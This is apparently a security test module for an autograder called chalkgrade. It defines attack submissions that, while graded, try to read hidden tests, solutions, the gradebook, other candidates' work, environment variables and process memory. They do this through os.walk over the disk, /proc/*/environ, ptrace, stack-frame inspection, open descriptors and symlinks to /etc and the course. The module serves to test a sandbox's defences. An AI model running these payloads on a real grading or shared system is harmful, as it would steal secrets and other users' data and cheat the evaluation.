"""Attacks that want to read: hidden tests, other submissions, the gradebook, secrets of the machine.

Each is a right submission that searches while it is graded, and prints what it finds.
"""

from .hand import GRAB, attack


@attack("right", slow=True)
def reads_the_course(hand):
    """Opens the solutions, the prepared tests, the gradebook and all else of the course by its path."""
    hand.end(
        GRAB
        + f"""
import os
for root in ({str(hand.course)!r}, "..", "../..", "../../..", "/course", "/given"):
    for folder, _, names in os.walk(root):
        for name in names:
            grab(seen(os.path.join(folder, name)))
"""
    )


@attack("right")
def reads_the_course_while_it_is_tested(hand):
    """Does the same from inside of a function that a hidden test calls."""
    hand.write(
        "square",
        GRAB
        + f"""
import os
def square(x):
    for root in ({str(hand.course)!r}, "..", "/course"):
        for folder, _, names in os.walk(root):
            for name in names:
                grab(seen(os.path.join(folder, name)))
    return x * x
""",
    )


@attack("right", slow=True)
def reads_the_whole_disk(hand):
    """Goes through every folder that it can see, for four seconds."""
    hand.end(
        GRAB
        + f"""
import os, time
until = time.monotonic() + 1.5
for root in ("/tmp", "/root", "/home", "/work", "/var", "/etc", "/run", "/opt", "/srv", "/", {str(hand.place.mailbox)!r}):
    for folder, folders, names in os.walk(root):
        folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "lib", "node_modules", ".venv")]
        for name in names:
            grab(seen(os.path.join(folder, name)))
        if time.monotonic() > until:
            break
"""
    )


@attack("right")
def reads_the_environment(hand):
    """Prints the variables of its environment, of its parents and of every process."""
    hand.end(
        GRAB
        + """
import os, glob
grab(dict(os.environ))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    grab(seen(path))
"""
    )


@attack("right")
def reads_its_own_memory(hand):
    """Searches all memory of its process, which was forked from one that knew more."""
    hand.end(
        GRAB
        + """
import ctypes, gc, sys
for thing in gc.get_objects():
    if isinstance(thing, (dict, list, tuple)) and len(thing) < 500:
        for value in (thing.values() if isinstance(thing, dict) else thing):
            if type(value) in (str, bytes): grab(value)
try:
    maps = open("/proc/self/maps").read().split("\\n")
    memory = open("/proc/self/mem", "rb")
    for line in maps:
        if "rw-p" in line and ("heap" in line or line.endswith(" 0 ")):
            start, end = (int(n, 16) for n in line.split()[0].split("-"))
            memory.seek(start)
            grab(memory.read(min(end - start, 1 << 24)))
except OSError:
    pass
"""
    )


@attack("right")
def reads_the_memory_of_others(hand):
    """Reads the memory of its parent and its neighbours, by /proc, ptrace and process_vm_readv."""
    hand.end(
        GRAB
        + """
import ctypes, os
libc = ctypes.CDLL(None)
for pid in {os.getppid(), 1, *range(2, 40)} - {os.getpid()}:
    libc.ptrace(16, pid, 0, 0)
    for line in seen(f"/proc/{pid}/maps").decode(errors="replace").split("\\n"):
        if "rw-p" in line and "[heap]" in line:
            start, end = (int(n, 16) for n in line.split()[0].split("-"))
            try:
                with open(f"/proc/{pid}/mem", "rb") as memory:
                    memory.seek(start)
                    grab(memory.read(min(end - start, 1 << 24)))
            except OSError:
                pass
    libc.ptrace(17, pid, 0, 0)
"""
    )


@attack("right")
def reads_the_stack_of_the_test(hand):
    """Looks, while a hidden test calls it, at all frames below, the history and the shell's variables."""
    hand.write(
        "square",
        GRAB
        + """
import sys, linecache, gc
def square(x):
    frame = sys._getframe()
    while frame:
        grab(frame.f_locals, list(frame.f_globals.values()), frame.f_code.co_consts)
        frame = frame.f_back
    grab(*get_ipython().user_ns.get("In", []), *map(str, linecache.cache.values()))
    return x * x
""",
    )


@attack("right")
def reads_the_exception_of_the_test(hand):
    """Gives what makes the test itself fail, and searches what is told of it."""
    hand.write(
        "mean",
        GRAB
        + """
import sys, traceback
class Odd:
    def __radd__(self, other): grab(traceback.format_stack()); raise ValueError(str(sys.exc_info()))
    __rsub__ = __sub__ = __add__ = __eq__ = __radd__
    __hash__ = None
def mean(values):
    grab(traceback.format_stack())
    return sum(values) / len(values)
""",
    )


@attack("right")
def reads_the_tests_through_what_it_is_lent(hand):
    """Takes the test's function apart: its code, its globals, its closure."""
    hand.write(
        "slope",
        GRAB
        + """
def slope(f, x):
    for name in ("__globals__", "__code__", "__closure__", "__self__", "__dict__", "__wrapped__", "_ask"):
        thing = getattr(f, name, None)
        grab(thing, getattr(thing, "co_consts", ""))
        if isinstance(thing, dict): grab(*thing.values())
    return (f(x + 1e-5) - f(x - 1e-5)) / 2e-5
""",
    )


@attack("right")
def asks_for_functions_that_it_was_not_lent(hand):
    """Asks, over the wire, for every function and every object of the examiner's by its number."""
    hand.write(
        "slope",
        GRAB
        + """
import gc
def slope(f, x):
    from chalkgrade.candidate import Candidate
    (me,) = [thing for thing in gc.get_objects() if isinstance(thing, Candidate)]
    for number in range(5):
        for arguments in ((), (1,), ("note",)):
            try: grab(me.ask(number, arguments, {}))
            except BaseException as error: grab(error)
    return (f(x + 1e-5) - f(x - 1e-5)) / 2e-5
""",
    )


@attack("right")
def reads_the_wire(hand):
    """Reads from every open descriptor what it can, and what has come over the wire."""
    hand.write(
        "square",
        GRAB
        + """
import gc, os, select
def square(x):
    from chalkgrade.candidate import Candidate
    for me in [thing for thing in gc.get_objects() if isinstance(thing, Candidate)]:
        grab(me._channel._arrived, bytes(me._channel._part), vars(me._border))
    for handle in range(3, 60):
        try:
            if select.select([handle], [], [], 0)[0]:
                grab(os.read(handle, 1 << 20))
        except (OSError, ValueError):
            pass
    return x * x
""",
    )


@attack("right")
def reads_left_over_memory(hand):
    """Asks for fresh memory that is not cleared, and searches it for what others have left."""
    hand.end(
        GRAB
        + """
import numpy as np, ctypes
for _ in range(40):
    grab(np.empty(1 << 20, dtype=np.uint8).tobytes())
libc = ctypes.CDLL(None)
libc.malloc.restype = ctypes.c_void_p
for size in (64, 256, 1024, 4096) * 50:
    where = libc.malloc(size)
    grab(ctypes.string_at(where, size))
"""
    )


@attack("right")
def leads_out_by_links(hand):
    """Has files and folders that are links to the course, the gradebook and the machine's files."""

    def change(folder):
        for name, to in (
            ("course", hand.course),
            ("book.db", hand.course / ".grading" / "gradebook.db"),
            ("root", "/"),
            ("other.ipynb", hand.course / "submitted" / "twin-right" / folder.name / "01_attacked.ipynb"),
            ("up", ".."),
        ):
            (folder / name).symlink_to(to)

    hand.afterwards.append(change)
    hand.end(
        GRAB
        + """
import os
for name in ("course", "up"):
    for folder, _, names in os.walk(name):
        for one in names: grab(seen(os.path.join(folder, one)))
grab(seen("book.db"), seen("other.ipynb"), seen("root/etc/passwd"))
"""
    )


@attack("right")
def makes_links_while_it_runs(hand):
    """Puts links into its folder that lead to the course, for whoever collects the folder."""
    hand.end(
        f"""
import os
for name, to in (("01_attacked.ipynb.new", {str(hand.course)!r}), ("data2", "/etc")):
    try: os.symlink(to, name)
    except OSError: pass
try:
    os.remove("01_attacked.ipynb")
except OSError: pass
try:
    os.symlink({str(hand.course / "solutions" / "secret.txt")!r}, "01_attacked.ipynb")
except OSError: pass
"""
    )


@attack("right")
def reads_what_another_candidate_leaves(hand):
    """Looks for files, queues and shared memory of other candidates, and leaves some of its own."""
    hand.end(
        GRAB
        + """
import glob, os, time
for pattern in ("/dev/shm/*", "/dev/mqueue/*", "/tmp/*", "/tmp/*/*", "/var/tmp/*", "/run/user/*/*"):
    for path in glob.glob(pattern):
        grab(seen(path))
try: open("/dev/shm/chalk-left", "w").write("left")
except OSError: pass
os.system("ipcs -a; ls -la /dev/shm /tmp")
"""
    )


@attack("right")
def asks_the_library_for_the_answers(hand):
    """Looks into site-packages and the grader's own folder for solutions and tests."""
    hand.end(
        GRAB
        + """
import os, sys
for root in sys.path + ["/course"]:
    if not root or "packages" in root and "site" not in root: continue
    for folder, folders, names in os.walk(root):
        folders[:] = [name for name in folders if "chalk" in name or folder != root]
        for name in names:
            if "chalk" in folder: grab(seen(os.path.join(folder, name)))
import importlib
for name in ("examiner", "gradebook", "course", "grade", "engine", "plan"):
    try: print("chalk-imported", importlib.import_module("chalkgrade." + name).__name__)
    except ImportError: pass
"""
    )
